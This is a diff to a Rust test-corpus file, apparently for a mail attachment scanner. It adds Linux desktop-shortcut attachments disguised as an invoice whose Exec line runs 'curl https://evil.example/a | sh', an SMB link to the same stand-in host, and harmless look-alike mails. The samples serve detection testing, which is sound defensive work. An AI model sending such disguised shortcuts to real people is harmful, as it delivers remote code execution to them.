@@ -12,7 +12,7 @@ const HEAD: &str = "From: Accounts <accounts@a.example>\r\nTo: bob@b.example\r\n
 const SCRIPT: &[u8] = b"var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"cmd /c calc.exe\");\r\n";
 
 pub(crate) fn all() -> Vec<Bad> {
-    [behind(), tables(), fields(), scripts(), links(), lists(), words(), names(), pdfs(), formats()]
+    [behind(), tables(), fields(), scripts(), links(), lists(), words(), names(), entries(), pdfs(), formats()]
         .into_iter()
         .flatten()
         .collect()
@@ -371,6 +371,21 @@ fn names() -> Vec<Bad> {
     ]
 }
 
+fn entries() -> Vec<Bad> {
+    let entry = "[Desktop Entry]\nType=Application\nName=Invoice\nIcon=application-pdf\nExec=sh -c 'curl https://evil.example/a | sh'\n";
+    let link = "\u{feff}# Invoice\n\n[Desktop Entry]\nType=Link\nURL=smb://evil.example/share/\n";
+    let inside = zipped("Invoice", entry.as_bytes());
+    [
+        ("without an extension", attached("Invoice", entry.as_bytes())),
+        ("with another one", attached("Invoice.pdf", entry.as_bytes())),
+        ("a link behind a comment", attached("Invoice.link", link.as_bytes())),
+        ("in an archive", attached("docs.zip", &inside)),
+    ]
+    .into_iter()
+    .map(|(name, message)| held("shortcut of a Linux desktop", name, message, "a shortcut of Linux desktops"))
+    .collect()
+}
+
 fn pdfs() -> Vec<Bad> {
     [("RC4", locked_pdf::FILE_RC4), ("AES", locked_pdf::FILE_AES), ("AES with one key", locked_pdf::FILE_AES256)]
         .into_iter()
@@ -450,6 +465,9 @@ pub(crate) fn twins() -> Vec<Mail> {
         "{HEAD}Content-Type: text/html\r\n\r\n<html><p>Remove the key of ms-msdt: with <code>reg delete HKCR\\ms-msdt</code>, see \
          <a href=\"https://a.example/follina?q=ms-msdt:\">here</a>.</p></html>\r\n"
     );
+    let entry = format!(
+        "{HEAD}Content-Type: text/plain\r\n\r\n[Desktop Entry]\r\nType=Application\r\nExec=xcalc\r\n\r\nIs that right?\r\n"
+    );
     let japanese = "=?utf-8?B?6KuL?= =?utf-8?B?5rGC?= =?utf-8?B?5pu4LnBkZg==?=";
     let broken = "=?utf-8?B?6KuL5r?= =?utf-8?B?GC5pu4LnBkZg==?=";
     let field = "{[ IF ]{[ PAGE ]}[ = 1 \"dde\" \"\" ]}{[ QUOTE 72 105 ]}{[ HYPERLINK \"https://a.example\" ]}";
@@ -494,6 +512,15 @@ pub(crate) fn twins() -> Vec<Mail> {
                 "Content-Type: image/png\r\nContent-Disposition: inline\r\nContent-ID: <logo.app>\r\n",
                 b"\x89PNG\r\n\x1a\n",
             ),
+        ),
+        twin("a shortcut in the text of a mail", entry.into_bytes()),
+        twin(
+            "a text about shortcuts",
+            attached("notes.txt", b"Shortcuts begin with a line like this:\n\n[Desktop Entry]\nExec=xcalc\n"),
+        ),
+        twin(
+            "a unit of systemd",
+            attached("weir.service", b"[Unit]\nDescription=Weir\n[Service]\nExecStart=/usr/bin/weir serve\n"),
         ),
         twin("a number", attached("orders.365", b"365;orders\r\n")),
         twin("a measurement", attached("sample.120", &[b"\0\x01\0\x02".as_slice(), &[0; 4000]].concat())),
